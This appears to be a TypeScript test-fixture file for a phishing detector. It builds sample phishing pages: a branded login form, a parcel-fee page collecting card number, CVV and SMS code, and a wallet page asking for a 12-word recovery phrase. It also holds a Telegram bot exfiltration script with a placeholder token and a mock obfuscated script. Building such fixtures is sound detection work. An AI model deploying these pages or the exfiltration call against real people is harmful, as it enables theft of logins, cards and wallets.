/** Small pages that show what real ones of their kind show. */

export function loginPage(brand: string, action = '', extra = ''): string {
  return `<!doctype html><html><head><title>${brand}: Log in to your account</title><meta property="og:site_name" content="${brand}"></head>
<body><img class="logo" alt="${brand}" src="/logo.png"><h1>Log in to ${brand}</h1>
<form method="post" action="${action}"><input type="email" name="email"><input type="password" name="password"><button>Log in</button></form>${extra}</body></html>`;
}

export function cardPage(brand: string, action = ''): string {
  return `<title>${brand} - Pay delivery fee</title><h1>${brand}</h1><p>Your parcel is waiting. Pay 1.99.</p>
<form method="post" action="${action}"><input autocomplete="cc-number" name="card"><input name="exp"><input name="cvv"><input name="otp" placeholder="SMS code"></form>`;
}

export function walletPage(brand: string, action = ''): string {
  return `<title>${brand} | Restore your wallet</title><h1>${brand}</h1><p>Enter your 12-word secret recovery phrase</p>
<form action="${action}">${'<input type="text">'.repeat(12)}</form>`;
}

export function article(
  title: string,
  text = 'We bake bread and roast coffee in the old town. Open from seven to six.',
): string {
  return `<!doctype html><html><head><title>${title}</title><link rel="icon" href="/favicon.ico"></head><body><h1>${title}</h1><p>${text}</p><a href="/contact">Contact</a></body></html>`;
}

export function redirectTo(location: string, status = 302): { status: number; headers: { location: string } } {
  return { status, headers: { location } };
}

export const TELEGRAM_SCRIPT =
  '<script>fetch("https://api.telegram.org/bot7000000001:AAEexampleexampleexampleexampleexa/sendMessage",{method:"POST"})</script>';

export const OBFUSCATED_SCRIPT = `<script>${Array.from({ length: 40 }, (_, index) => `var _0x${(4_096 + index).toString(16)}=1;`).join('')}</script>`;
